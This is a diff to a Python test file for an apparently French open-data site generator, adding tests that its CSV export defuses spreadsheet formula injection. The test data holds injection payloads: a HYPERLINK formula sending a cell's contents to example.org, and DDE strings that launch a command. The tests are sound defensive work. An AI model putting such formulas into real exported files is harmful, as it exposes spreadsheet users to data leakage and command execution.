@@ -15,7 +15,7 @@ import jsonschema
 import pytest
 
 from callcma import build
-from callcma.stages.s4_export import CSV_COLUMNS, CSV_JOIN, SCHEMA_NAME, export_data, export_value
+from callcma.stages.s4_export import CSV_COLUMNS, CSV_JOIN, SCHEMA_NAME, export_csv, export_data, export_value, neutralise_cell
 from callcma.stages.s1_load import load_document
 from callcma.formatting import format_number
 from callcma.model import Dataset, Fact
@@ -212,3 +212,28 @@ def test_the_open_data_page_links_each_file_relatively_with_its_size(site: Path,
         # Written by the site's number formatter (Babel rounds 24,95 up to 25,0, where Python's "%.1f" gives 24,9).
         assert html.unescape(size) == format_number(target.stat().st_size / 1000, "fr", places=1) + "\u00a0ko"
     assert 'href="https://www.etalab.gouv.fr/licence-ouverte-open-licence/"' in page
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("https://example.org/?d="&A1,"Cliquez")', '\'=HYPERLINK("https://example.org/?d="&A1,"Cliquez")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Montant = 140 000 €", "Montant = 140 000 €"),
+        ("'déjà cité'", "'déjà cité'"),
+    ],
+)
+def test_csv_text_cells_that_a_spreadsheet_would_evaluate_start_with_an_apostrophe(dataset: Dataset, text: str, cell: str) -> None:
+    fact = dataset.budget[0]
+    hostile = dataset.model_copy(update={"budget": [fact.model_copy(update={"label": text, "value": text, "unit": None}), *dataset.budget[1:]]})
+    row = next(row for row in _rows(export_csv(hostile).encode("utf-8")) if row["id"] == fact.id)
+    assert (row["label"], row["value"]) == (cell, cell)
+
+
+@pytest.mark.parametrize("number", [-2, -0.5, 140000, 2.5])
+def test_csv_numbers_stay_numbers(number: int | float) -> None:
+    assert neutralise_cell(number) == number
